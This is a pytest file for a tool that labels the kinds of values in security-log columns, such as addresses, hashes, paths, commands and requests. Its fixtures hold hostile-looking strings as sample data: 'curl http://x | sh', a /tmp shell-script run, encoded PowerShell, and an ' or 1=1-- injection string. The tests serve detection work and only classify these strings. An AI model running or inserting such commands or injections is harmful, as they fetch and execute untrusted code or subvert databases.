"""Each kind on values that are it, and on values that are easily taken for it."""

import datetime as dt
import random
import uuid
from pathlib import Path

import polars as pl
import pytest

from phantom_ml.data.columns.column import words
from phantom_ml.data.kinds.base import in_order
from phantom_ml.data.recognise import recognise
from phantom_ml.data.schema import ColumnKind

R = random.Random(7)
N = 200


def kind(values: list, name: str = "field") -> str:
    return recognise(pl.DataFrame({name: values}, strict=False)).columns[0].kind.value


def many(make, n: int = N) -> list:
    return [make(i) for i in range(n)]


def letters(n: int) -> str:
    return "".join(R.choices("abcdefghijklmnopqrstuvwxyz", k=n))


def hexes(n: int) -> str:
    return "".join(R.choices("0123456789abcdef", k=n))


IS = {
    "iso time": (many(lambda i: f"2024-03-{i % 28 + 1:02}T10:{i % 60:02}:00.123Z"), "timestamp"),
    "apache time": (
        many(lambda i: f"{i % 28 + 1:02}/Mar/2024:10:00:{i % 60:02} +0100"),
        "timestamp",
    ),
    "syslog time": (many(lambda i: f"Mar {i % 28 + 1:2} 10:00:{i % 60:02}"), "timestamp"),
    "blue gene time": (
        many(lambda i: f"2005-06-{i % 28 + 1:02}-15.42.{i % 60:02}.675872"),
        "timestamp",
    ),
    "us date": (many(lambda i: f"{i % 12 + 1}/{i % 28 + 1}/2024 3:05 PM"), "timestamp"),
    "ipv4": (many(lambda i: f"10.{i}.3.{i % 7}"), "ip"),
    "ipv4 and port": (many(lambda i: f"10.{i}.3.4:{1000 + i}"), "ip"),
    "ipv6": (many(lambda i: f"2001:db8::{i:x}"), "ip"),
    "mapped ipv6": (many(lambda i: f"::ffff:10.0.0.{i}"), "ip"),
    "zoned ipv6 with port": (many(lambda i: f"[fe80::{i:x}%eth0]:443"), "ip"),
    "zoned ipv6": (many(lambda i: f"fe80::{i:x}%eth0"), "ip"),
    "cidr": (many(lambda i: f"10.{i}.0.0/16"), "cidr"),
    "mac": (many(lambda i: f"00:1A:2b:00:00:{i:02x}"), "mac"),
    "md5": (many(lambda i: hexes(32)), "hash"),
    "sha256": (many(lambda i: hexes(64)), "hash"),
    "ja4": (many(lambda i: f"t13d1516h2_{hexes(12)}_{hexes(12)}"), "hash"),
    "email": (many(lambda i: f"user{i}@mail{i % 9}.example.org"), "email"),
    "url": (many(lambda i: f"https://a{i}.example.com/x?y={i}"), "url"),
    "web path": (many(lambda i: f"/blog/{letters(5)}/{i}.html"), "url"),
    "agent": (many(lambda i: f"Mozilla/5.0 (X11; Linux) Firefox/{i}.0"), "user_agent"),
    "ssh banner": (many(lambda i: f"SSH-2.0-OpenSSH_{i % 9}.{i % 5}"), "category"),
    "component of a log": (
        many(lambda i: f"ssh-{'auth' if i % 2 else 'shell'} on transport,{i},10.0.0.{i % 9}"),
        "log_message",
    ),
    "numbered name": (many(lambda i: f"Product {i}"), "text"),
    "script": (many(lambda i: f"python-requests/2.{i}.1"), "user_agent"),
    "request": (many(lambda i: f"GET /x/{i} HTTP/1.1"), "http_payload"),
    "quoted request": (many(lambda i: f'"GET /x/{i} HTTP/1.1"'), "http_payload"),
    "escaped request": (
        many(lambda i: f"'GET / HTTP/1.0\\r\\nHost: h{i}.com\\r\\n'"),
        "http_payload",
    ),
    "query": (many(lambda i: f"user={letters(4)}&page={i}"), "http_payload"),
    "registry": (many(lambda i: f"HKLM\\Software\\Run\\{letters(6)}"), "registry_path"),
    "windows": (many(lambda i: f"C:\\Program Files\\{letters(6)}\\a.exe"), "path"),
    "unc": (many(lambda i: f"\\\\srv{i}\\share\\{letters(6)}"), "path"),
    "device": (many(lambda i: f"\\device\\harddiskvolume2\\{letters(6)}.exe"), "path"),
    "relative path": (many(lambda i: f"log/tty/20180618-{hexes(6)}-0e.log"), "path"),
    "file name": (many(lambda i: f"{letters(8)}.pdf"), "path"),
    "unix": (many(lambda i: f"/usr/lib/{letters(6)}.so"), "path"),
    "command": (many(lambda i: f"powershell.exe -enc {letters(30)}"), "command_line"),
    "command with a url": (many(lambda i: f"curl http://{letters(5)}.com/a"), "command_line"),
    "command with a mode": (many(lambda i: f"chmod +x {letters(5)}"), "command_line"),
    "commands after another": (many(lambda i: f"cd /tmp; sh {letters(5)}.sh"), "command_line"),
    "commands of many kinds": (
        ["powershell.exe -enc aQBl", '"C:\\a.exe" /c dir', "curl http://x | sh"],
        "command_line",
    ),
    "list of ips": (many(lambda i: f"8.8.4.{i}, 10.0.0.9"), "ip"),
    "quoted": (many(lambda i: f'"C:\\Windows\\a.exe" /c {letters(5)}'), "command_line"),
    "domain": (many(lambda i: f"{letters(9)}.com"), "domain"),
    "domain of any script": (
        many(lambda i: f"{letters(5)}ü{i}." + ("de", "рф", "РФ", "中国", "example.com")[i % 5]),
        "domain",
    ),
    "odd domain": (many(lambda i: f"_dmarc.{letters(9)}.co.uk"), "domain"),
    "sid": (many(lambda i: f"S-1-5-21-1363495622-{i % 20}"), "entity"),
    "arn": (many(lambda i: f"arn:aws:iam::123:user/u{i % 90}"), "entity"),
    "guid repeats": (many(lambda i: str(uuid.UUID(int=i % 50))), "entity"),
    "guid": (many(lambda i: str(uuid.UUID(int=i))), "identifier"),
    "levels": (many(lambda i: f"level {i % 5}"), "category"),
    "log": (many(lambda i: f"session {i} opened for user u{i} from host h{i}"), "log_message"),
    "web server lines": (
        many(
            lambda i: (
                f'10.{i}.0.1 - - [17/May/2015:10:05:{i % 60:02} +0000] "GET /{letters(6)} HTTP/1.1" 200 {i}'
            )
        ),
        "log_message",
    ),
    "syslog lines": (
        many(lambda i: f"Dec 10 06:55:{i % 60:02} host {letters(8)}[{i}]: {letters(9)}"),
        "log_message",
    ),
    "json": (many(lambda i: f'{{"user": "{letters(5)}", "ip": "10.0.0.{i}", "n": {i}}}'), "text"),
    "lines of json": (
        many(
            lambda i: f'{{"time": "2024-03-01T10:00:{i % 60:02}Z", "msg": "user {letters(5)} in"}}'
        ),
        "text",
    ),
    "json that reads like an attack": (
        many(lambda i: f'{{"origin": "{letters(5)}", "order": {i}}}'),
        "text",
    ),
    "json longer than is looked at": (many(lambda i: f'{{"a": "{"x y " * 900}{i}"}}'), "text"),
    "lists of json": (many(lambda i: f"[{i}, {i + 1}, 3]"), "text"),
    "lines that begin in brackets": (many(lambda i: f"[{i}] session of u{i} ended"), "log_message"),
    "few objects of json": (many(lambda i: f'{{"a": {i % 5}}}'), "category"),
    "prose": (many(lambda i: " ".join(letters(6) for _ in range(8))), "text"),
    "random labels": (many(lambda i: letters(12)), "text"),
    "same length tokens": (many(lambda i: hexes(12)), "text"),
    "yes no": (many(lambda i: ["Yes", "no"][i % 2]), "category"),
    "0 1 as text": (many(lambda i: str(i % 2)), "boolean"),
    "nulls": ([None] * N, "empty"),
    "one value": (["x"] * N, "constant"),
    "one value or none": (["x", None] * N, "category"),
    "number": (many(lambda i: R.random()), "number"),
    "number as text": (many(lambda i: str(R.random())), "number"),
    "status codes": (many(lambda i: [200, 200, 304, 404, 301, 500, 206][i % 7]), "category"),
    "flag": (many(lambda i: i % 2), "boolean"),
    "row count": (list(range(N)), "identifier"),
    "bools": (many(lambda i: i % 3 == 0), "boolean"),
    "dates": (many(lambda i: dt.date(2024, 1, 1) + dt.timedelta(i)), "timestamp"),
    "spans": (many(lambda i: dt.timedelta(seconds=R.random())), "duration"),
    "clock": (many(lambda i: dt.time(i % 24, i % 60)), "number"),
    "lists": (many(lambda i: [i, i + 1]), "text"),
    "structs": (many(lambda i: {"a": i, "b": letters(3)}), "text"),
    "rising epoch": (many(lambda i: 1_700_000_000 + i * i), "timestamp"),
}


@pytest.mark.parametrize("case", IS)
def test_values_alone_tell_their_kind(case):
    values, expected = IS[case]
    assert kind(values) == expected


NAMED = {
    "From": (many(lambda i: f'"{letters(4)}, {letters(5)}" <u{i}@mail.example.org>'), "email"),
    "sender": (many(lambda i: f"{letters(4)} x <u{i}@mail.example.org>"), "email"),
    "to": (many(lambda i: f"u{i}@a.example.org, {letters(4)} <v{i}@b.example.org>"), "email"),
    "recipients": (many(lambda i: f"u{i}@a.example.org; v{i}@b.example.org;"), "email"),
    "x_forwarded_for": (
        many(lambda i: f"8.8.4.{i}" + ", 10.0.0.9, unknown" * (i % 2)),
        "ip",
    ),
    "hostname": (many(lambda i: f"{letters(8)}.com" + ":8443" * (i % 2)), "domain"),
    "http_host": (many(lambda i: f"{letters(8)}.com:8443"), "domain"),
    "fqdn": (many(lambda i: f"{letters(6)}ü.{'de' if i % 2 else 'рф'}"), "domain"),
    "http_cookie": (many(lambda i: f"sid={letters(9)}; lang=en; t={i}"), "http_payload"),
    "sport": (many(lambda i: f"{R.randrange(65536)}" + "/tcp" * (i % 2)), "port"),
    "DstPort": (many(lambda i: f"{R.randrange(65536)}/udp"), "port"),
    "KeyLength": (many(lambda i: [0, 128, 2048, 4096][i % 4]), "number"),
    "src_port": (many(lambda i: R.randrange(65536)), "port"),
    "dport": ([*[22, 53, 80, 443, 8080] * 40, 70000, 99999, -1], "port"),
    "dpt": ([*["22", "53", "80", "443", "8080"] * 40, "70000", "99999", "-1"], "port"),
    "id.orig_p": (many(lambda i: R.randrange(65536)), "port"),
    "DestinationPort": (many(lambda i: str(R.randrange(1, 65536))), "port"),
    "num_ports": (many(lambda i: R.randrange(500)), "number"),
    "same_src_port_rate": (many(lambda i: R.random()), "number"),
    "resp_bytes": (many(lambda i: int(R.paretovariate(1) * 100)), "bytes"),
    "bytes": (many(lambda i: "-" if i % 9 == 0 else str(int(R.paretovariate(1) * 99))), "bytes"),
    "orig_pkts": (many(lambda i: str(i % 7)), "bytes"),
    "petal_length": (many(lambda i: R.gauss(5, 1)), "number"),
    "flow_duration": (many(lambda i: R.expovariate(1)), "duration"),
    "elapsed_ms": (many(lambda i: int(R.paretovariate(1) * 9)), "duration"),
    "responseTime": (many(lambda i: "-" if i % 9 == 0 else str(R.expovariate(1))), "duration"),
    "time-taken": (many(lambda i: int(R.paretovariate(1) * 9)), "duration"),
    "latency_ratio": (many(lambda i: R.expovariate(1)), "number"),
    "request_time": (many(lambda i: 1_700_000_000.5 + R.random() * 1e6), "timestamp"),
    "status": (many(lambda i: [200, 404][i % 2]), "category"),
    "sc-status": (many(lambda i: str([200, 404, 499, 302, 500][i % 5])), "category"),
    "delta_bytes": (many(lambda i: R.randrange(-99, 99)), "number"),
    "ts": (many(lambda i: 1_700_000_000.5 + R.random() * 1e6), "timestamp"),
    "event_time": (many(lambda i: 1_700_000_000_000 + R.randrange(10**9)), "timestamp"),
    "filetime": (many(lambda i: 133_000_000_000_000_000 + R.randrange(10**12)), "timestamp"),
    "date": (many(lambda i: 20_240_100 + R.randrange(1, 29)), "timestamp"),
    "duration_time": (many(lambda i: 1_700_000_000 + R.randrange(10**6)), "number"),
    "version": (many(lambda i: f"10.{i}.0.1"), "text"),
    "EventID": (many(lambda i: 4600 + i % 30), "category"),
    "Task": (many(lambda i: 12_800 + i % 9), "category"),
    "FilterRTID": (many(lambda i: str(69_000 + i % 30)), "category"),
    "user_name": (many(lambda i: f"user{i % 90}"), "entity"),
    "host": (many(lambda i: f"WS-{i % 99:04}"), "entity"),
    "host_count": (many(lambda i: R.randrange(90)), "number"),
    "session_uid": (many(lambda i: f"C{i:05}x{hexes(9)}"), "identifier"),
    "uuid": (many(lambda i: uuid.UUID(int=R.getrandbits(128)).hex), "identifier"),
    "record_id": (R.sample(range(10**9), N), "identifier"),
    "Order": (R.sample(range(N), N), "identifier"),
    "domain": (many(lambda i: f"{letters(8)}.zip"), "domain"),
    "attachment": (many(lambda i: f"{letters(8)}.zip"), "path"),
    "archive": (many(lambda i: f"{letters(8)}.zip"), "text"),
    "logfile": (many(lambda i: f"{letters(8)} ({i}).out"), "path"),
    "file_type": (many(lambda i: f"image/{letters(3)}{i % 9}"), "text"),
    "src_host_ip": (many(lambda i: ["-", f"10.0.0.{i}"][i % 2]), "ip"),
    "payload": (many(lambda i: [f"id={i}' or 1=1--", letters(7)][i % 2]), "http_payload"),
    "zip_code": (many(lambda i: f"0{i % 50:04}"), "category"),
}


@pytest.mark.parametrize("name", NAMED)
def test_a_name_decides_only_together_with_the_values(name):
    values, expected = NAMED[name]
    assert kind(values, name) == expected


AZURE = (
    "Microsoft.Authorization/roleAssignments/write",
    "Microsoft.Compute/virtualMachines/write",
    "Microsoft.Storage/storageAccounts/listKeys/action",
    "Microsoft.Insights/diagnosticSettings/delete",
)
CONFUSIONS = {
    "names with a port are no domains without a hint": (
        many(lambda i: f"{letters(8)}.com:{i}"),
        "field",
        "text",
    ),
    "settings and their numbers are no domains": (
        many(lambda i: f"{letters(8)}.name:{i}"),
        "field",
        "text",
    ),
    "first and last names in other scripts are no domains": (
        many(lambda i: f"{'абвгд'[i % 5]}.{'петров' if i % 2 else 'сидоров'}{letters(3)}ов"),
        "field",
        "text",
    ),
    "initials in other scripts are no domains": (
        many(lambda i: f"{'абвгд'[i % 5]}{letters(4)}.петров"),
        "field",
        "text",
    ),
    "lines that name a mail address are none": (
        many(lambda i: f"mail of u{i} <u{i}@mail.example.org> was {letters(6)}"),
        "field",
        "text",
    ),
    "an address and a number are no list": (
        many(lambda i: f"10.0.0.{i},{letters(5)}"),
        "field",
        "text",
    ),
    "numbers over 65535 are no ports": (
        many(lambda i: f"{70_000 + i}/tcp"),
        "dst_port",
        "text",
    ),
    "ages are no ports": (many(lambda i: 18 + i % 60), "age", "number"),
    "ports are no status codes": (
        many(lambda i: [22, 80, 443, 8080, 200, 404][i % 6]),
        "dst_port",
        "port",
    ),
    "round amounts are no status codes": (
        many(lambda i: [100, 200, 300, 400, 500][i % 5]),
        "amount",
        "number",
    ),
    "a rising sum of bytes is no epoch": (
        many(lambda i: 1_700_000_000 + i * i),
        "total_bytes",
        "bytes",
    ),
    "versions are no addresses": (many(lambda i: f"1.2.{i}.4"), "FileVersion", "text"),
    "programs are no domains": (many(lambda i: f"{letters(8)}.exe"), "domain", "path"),
    "a digest of 32 digits is no uuid": (many(lambda i: hexes(32)), "file", "hash"),
    "media types are no paths": (["text/html", "image/png", "a/b"] * N, "content", "category"),
    "words in capitals are no requests": (
        many(lambda i: ["GET", "POST", "OPTIONS"][i % 3]),
        "method",
        "category",
    ),
    "marks alone are no numbers": (["-", "?"] * N, "bytes", "category"),
    "a counter is no epoch": (R.sample(range(10**9, 2 * 10**9), N), "total", "number"),
    "free text called id is kept": (many(lambda i: letters(R.randrange(3, 30))), "id", "text"),
    "urls called id are kept": (many(lambda i: f"http://{letters(5)}.com/{i}"), "id", "url"),
    "unique floats called id are kept": (many(lambda i: R.random()), "id", "number"),
    "a unique measurement is kept": (R.sample(range(10**6), N), "weight", "number"),
    "a name of an ip does not make one": (many(lambda i: letters(6)), "src_ip", "text"),
    "a name of a hash does not make one": (many(lambda i: letters(6)), "md5", "text"),
    "a clock is no ipv6": (many(lambda i: f"12:{i % 60:02}:{i % 59:02}"), "at", "text"),
    "versions of a protocol are levels": (["HTTP/1.1", "HTTP/1.0"] * N, "client", "category"),
    "words of agents are levels": (["External", "Internal"] * N, "agent", "category"),
    "slashes are no agents": (many(lambda i: f"valve{i % 3}/{i % 4}"), "rig", "category"),
    "a long code keeps its zeros": (many(lambda i: f"00{i:04}"), "code", "text"),
    "codes of messages are no payload": (many(lambda i: f"%%18{i % 40}"), "type", "category"),
    "calls of azure are no urls": (many(lambda i: AZURE[i % len(AZURE)]), "url", "category"),
    "calls of azure are no paths": (many(lambda i: AZURE[i % len(AZURE)]), "process", "category"),
    "calls of azure in capitals are levels": (
        many(lambda i: AZURE[i % len(AZURE)].upper()),
        "op",
        "category",
    ),
    "many long calls of azure are levels": (
        many(lambda i: f"Microsoft.{'Security' * 6}/type{letters(2)}/{'x' * 30}/read", 70) * 3,
        "op",
        "category",
    ),
    "calls of another vendor are levels": (
        ["Contoso.Foo/things/read", "Contoso.Foo/things/start/action"] * N,
        "op",
        "category",
    ),
    "calls of azure that each come once are no urls": (
        many(lambda i: f"Microsoft.Compute/{letters(8)}/write"),
        "op",
        "text",
    ),
    "pages of a host without a scheme are urls": (
        ["example.com/a/b/write", "example.com/a/read"] * N,
        "op",
        "url",
    ),
    "pages of a host in capitals are urls": (
        ["EXAMPLE.COM/A/B/WRITE", "EXAMPLE.COM/A/READ"] * N,
        "op",
        "url",
    ),
    "what ends in another word is no call": (
        ["Contoso.Foo/things/list", "Contoso.Foo/a/b"] * N,
        "op",
        "url",
    ),
    "levels of few rows": (["a", "b", "a", "b", "b", "a"], "x", "category"),
}


@pytest.mark.parametrize("case", CONFUSIONS)
def test_what_looks_alike_is_told_apart(case):
    values, name, expected = CONFUSIONS[case]
    assert kind(values, name) == expected


def test_objects_of_json_are_told_with_the_way_to_make_columns_of_them():
    frame = pl.DataFrame({"details": many(lambda i: f'{{"user": "{letters(5)}", "n": {i}}}')})
    assert recognise(frame).columns[0].evidence == (
        "100 % of the distinct values are JSON objects. "
        "Decode them before (polars: str.json_decode), and each key is a column."
    )


@pytest.mark.parametrize(
    ("values", "told"),
    [
        (["a", None], "1 value in 1 cell."),
        (["a", "a", None], "1 value in 2 cells."),
        (["a", "b"], "2 values in 2 cells."),
        (["a", "a", "b", "b"], "2 values in 4 cells that repeat."),
    ],
)
def test_values_are_told_to_repeat_only_where_they_do(values, told):
    assert recognise(pl.DataFrame({"x": values})).columns[0].evidence == told


def test_every_kind_but_that_of_copies_can_be_claimed_by_a_column_alone():
    assert {r.kind for r in in_order()} == set(ColumnKind) - {ColumnKind.COPY}


def test_words_of_a_name_are_split_at_signs_and_capitals():
    assert words("SrcIPAddr_2.fooBar") == ("src", "ip", "addr", "2", "foo", "bar")


def test_every_kind_has_its_heading_in_the_documentation():
    page = (Path(__file__).parents[3] / "docs" / "kinds.md").read_text(encoding="utf-8")
    missing = [k.value for k in ColumnKind if f"\n## {k.value}\n" not in page]
    assert missing == []
